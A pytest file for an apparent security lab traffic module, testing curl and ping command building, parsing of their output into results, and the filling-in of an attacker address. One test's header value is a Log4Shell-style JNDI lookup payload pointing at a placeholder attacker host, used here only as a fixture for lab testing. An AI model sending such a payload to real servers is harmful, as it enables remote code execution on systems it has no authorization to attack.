import pytest
from hypothesis import given
from hypothesis import strategies as st

from hyperward.lab.messages import HttpRequest, url_host
from hyperward.lab.outcome import Outcome, Result
from hyperward.lab.traffic import curl_command, curl_outcome, ping_command, ping_outcome


def test_curl_sends_the_target_as_it_is_written() -> None:
    request = HttpRequest("/a/../b", (("User-Agent", "x y"),), body="d")
    command = curl_command(request, "fd77::9", 5)
    assert "--path-as-is" in command
    assert command[-2:] == ["--url", "http://[fd77::9]/a/../b"]
    assert command[command.index("--header") + 1] == "User-Agent: x y"
    assert command[command.index("--max-time") + 1] == "5"
    assert command[command.index("--data-binary") + 1] == "d"
    assert "--limit-rate" not in command


def test_curl_takes_no_more_than_the_rate() -> None:
    command = curl_command(HttpRequest(), "10.77.0.9", 5, rate=1000)
    assert command[command.index("--limit-rate") + 1] == "1000"


REFUSED_7 = "* connect to 10.77.0.9 port 81 failed: Connection refused\ncurl: (7) Failed to connect\n"
REFUSED_8 = "* connect to 10.77.0.9 port 81 from 10.77.0.11 port 5 failed: Connection refused\ncurl: (7) Could not\n"


@pytest.mark.parametrize(
    ("status", "said", "result"),
    [
        (0, "hw-status:404\n", Result.COMPLETED),
        (7, REFUSED_7, Result.REFUSED),
        (7, REFUSED_8, Result.REFUSED),
        (7, "* connect to 10.77.0.9 port 80 failed: No route to host\n", Result.FAILED),
        (7, "* connect to 10.77.0.9 port 80 failed: Connection timed out\n", Result.TIMED_OUT),
        (28, "curl: (28) Operation timed out\n", Result.TIMED_OUT),
        (52, "curl: (52) Empty reply from server\n", Result.CLOSED),
        (18, "curl: (18) transfer closed\n", Result.CLOSED),
        (56, "curl: (56) Recv failure: Connection reset by peer\n", Result.RESET),
        (55, "curl: (55) Send failure: Broken pipe\n", Result.RESET),
        (56, "curl: (56) something else\n", Result.FAILED),
        (6, "curl: (6) Could not resolve host\n", Result.FAILED),
    ],
)
def test_what_curl_says_is_understood(status: int, said: str, result: Result) -> None:
    outcome = curl_outcome(status, said, 5, "ab")
    assert outcome.result is result
    assert (outcome.size, outcome.sha256) == (5, "ab")


def test_the_detail_is_the_status_or_the_last_word() -> None:
    assert curl_outcome(0, "x\nhw-status:200\n", 0, "").detail == "HTTP 200"
    assert curl_outcome(28, "curl: (28) late\n", 0, "").detail == "curl: (28) late"
    assert curl_outcome(99, "", 0, "").detail == "curl ended with 99"


@pytest.mark.parametrize(
    ("said", "outcome"),
    [
        ("3 packets transmitted, 3 received, 0% packet loss", Outcome(Result.COMPLETED, detail="3 of 3 answered")),
        ("3 packets transmitted, 1 packets received, 66%", Outcome(Result.TIMED_OUT, detail="1 of 3 answered")),
        (
            "x\nping: sendmsg: Network is unreachable\n",
            Outcome(Result.FAILED, detail="ping: sendmsg: Network is unreachable"),
        ),
        ("", Outcome(Result.FAILED, detail="ping said nothing")),
    ],
)
def test_what_ping_says_is_understood(said: str, outcome: Outcome) -> None:
    assert ping_outcome(said) == outcome
    assert ping_command("fd77::9", 3, 0.2)[-1] == "fd77::9"


def test_the_attackers_address_is_filled_in_everywhere() -> None:
    request = HttpRequest("/{attacker}", (("X", "${jndi:ldap://{attacker}/a}"),), "{attacker}")
    assert request.for_attacker("fd77::9") == HttpRequest(
        "/[fd77::9]", (("X", "${jndi:ldap://[fd77::9]/a}"),), "[fd77::9]"
    )
    assert request.for_attacker("10.0.0.1").body == "10.0.0.1"
    assert HttpRequest("/x", port=81).url("10.0.0.1") == "http://10.0.0.1:81/x"


@given(st.ip_addresses().map(str))
def test_ipv6_is_bracketed_in_urls(address: str) -> None:
    assert url_host(address).strip("[]") == address
    assert url_host(address).startswith("[") == (":" in address)
